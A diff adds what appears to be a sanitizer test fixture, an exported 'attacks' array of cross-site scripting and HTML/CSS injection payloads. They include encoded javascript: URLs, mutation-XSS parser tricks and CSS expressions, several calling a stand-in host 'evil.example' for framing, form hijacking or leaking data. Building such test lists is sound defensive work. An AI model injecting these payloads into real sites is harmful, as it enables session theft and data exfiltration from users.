@@ -1,0 +1,42 @@
+/** Markup that must not come through, whichever side cleans it. */
+export const attacks = [
+  '<script>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)//>',
+  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">x</a>', '<a href="vbscript:x">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="/\\evil.example">x</a>',
+  '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x.swf"></object>', '<embed src="x.swf">',
+  '<form action="https://evil.example"><input name=p><button>x</button></form>', '<base href="https://evil.example/">', '<link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">', '<style>@import "//evil.example"</style>', '<style>*{background:url(javascript:alert(1))}</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="background-image:url(//evil.example/x)">x</div>', '<div style="width:expression(alert(1))">x</div>',
+  '<div style="position:fixed;inset:0;z-index:9999">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<p style="color:red;background:u\\72l(x)">x</p>', '<p style="/**/color:/**/red">x</p>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>', '<template><script>alert(1)</script></template>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<p title="<img src=x onerror=alert(1)>">x</p>',
+  '<video src="javascript:alert(1)" onplay=alert(1)></video>', '<video poster="javascript:alert(1)"></video>', '<audio src="data:text/html,x"></audio>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<details open ontoggle=alert(1)>x</details>', '<input autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<a id="__proto__" name="constructor">x</a>', '<p id="root" class="MuiDialog-root">x</p>',
+  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<img srcset="x 1x, javascript:alert(1) 2x">', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', '<p data-x="1" contenteditable=true>x</p>',
+  '<img src="x` `<script>alert(1)</script>"` `>', '<a target="_top" href="/x">x</a>',
+  // Addresses that hide their scheme.
+  '<a href="javas&#99;ript:alert(1)">x</a>', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', '<a href="java\u0000script:alert(1)">x</a>',
+  '<a href="java\rscript:alert(1)">x</a>', '<a href="\u00a0javascript:alert(1)">x</a>', '<a href="\ufeffjavascript:alert(1)">x</a>', '<a href="java\u200bscript:alert(1)">x</a>', '<a href="feed:javascript:alert(1)">x</a>',
+  '<a href="view-source:javascript:alert(1)">x</a>', '<a href="blob:https://evil.example/1">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="intent://x#Intent;end">x</a>', '<a href="jar:https://evil.example!/x">x</a>',
+  '<img src="JaVaScRiPt:alert(1)">', '<img src=`javascript:alert(1)`>', '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">', '<video><source src="javascript:alert(1)"></video>', '<audio src=javascript:alert(1) autoplay>',
+  '<img src="x" style="content:url(javascript:alert(1))">', '<a href="https://good.example" ping="https://evil.example">x</a>', '<a href="/x" download="evil.exe" referrerpolicy=unsafe-url>x</a>', '<img usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
+  // Styles.
+  '<p style="width:\\65 xpression(alert(1))">x</p>', '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>', '<p style="background:url(//evil.example/?leak)">x</p>', '<p style="color:var(--secret)">x</p>', '<p style="width:calc(100% * var(--x))">x</p>',
+  '<p style="font-family:x\';background:url(x)">x</p>', '<p style="color:red;}body{display:none">x</p>', '<p style="list-style-image:url(//evil.example)">x</p>', '<p style="transform:scale(99);opacity:0;pointer-events:none">x</p>', '<p style="margin:-9999px;position:absolute">x</p>',
+  '<p style="color:/*x*/red">x</p>', '<p style="@import url(//evil.example)">x</p>', '<p style="color:red!important;animation:x 1s">x</p>', '<style>p{background:url(//evil.example)}</style><p>x</p>',
+  // Markup that changes its meaning when read again.
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>', '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
+  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>', '<svg><set attributeName=onmouseover to=alert(1)></svg>', '<svg><image href="javascript:alert(1)"></svg>', '<math href="javascript:alert(1)">x</math>',
+  '<noscript><style></noscript><img src=x onerror=alert(1)></style>', '<table><tr><td><style><img src="</style><img src=x onerror=alert(1)//"></td></tr></table>', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
+  '<title><img src=x onerror=alert(1)></title>', '<iframe><img src=x onerror=alert(1)></iframe>', '<noembed><img src=x onerror=alert(1)></noembed>', '<plaintext><img src=x onerror=alert(1)>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![if !supportLists]><img src=x onerror=alert(1)><![endif]>', '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>', '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>', '<img alt="`><img src=x onerror=alert(1)>">', '<img src="a"alt="b"onerror=alert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>', '<img src=x:x onerror\n=alert(1)>',
+  // Elements and attributes that act without a script.
+  '<body onload=alert(1)>', '<html onclick=alert(1)><head><base href=//evil.example></head></html>', '<frameset onload=alert(1)>', '<isindex action=javascript:alert(1)>', '<button formaction=javascript:alert(1)>x</button>', '<input type=image src=x onerror=alert(1)>',
+  '<keygen autofocus onfocus=alert(1)>', '<dialog open onclose=alert(1)>x</dialog>', '<portal src="https://evil.example"></portal>', '<link rel=prefetch href=//evil.example>', '<meta name=referrer content=unsafe-url>', '<script src=//evil.example></script>',
+  '<script type=module>alert(1)</script>', '<script/x>alert(1)</script >', '<SCRIPT\n>alert(1)</SCRIPT\n>', '<div is="x-evil" part=x slot=y>x</div>', '<x-evil onclick=alert(1)>x</x-evil>', '<p onclick="alert(1)" ONMOUSEOVER=alert(1) onfocus=alert(1) tabindex=0>x</p>',
+  '<p accesskey=x onclick=alert(1)>x</p>', '<video controls onloadstart=alert(1) poster=//evil.example/x crossorigin=anonymous></video>', '<td background="//evil.example">x</td>', '<p xmlns:x="urn:x" x:onclick=alert(1)>x</p>', '<p xlink:href="javascript:alert(1)">x</p>',
+];
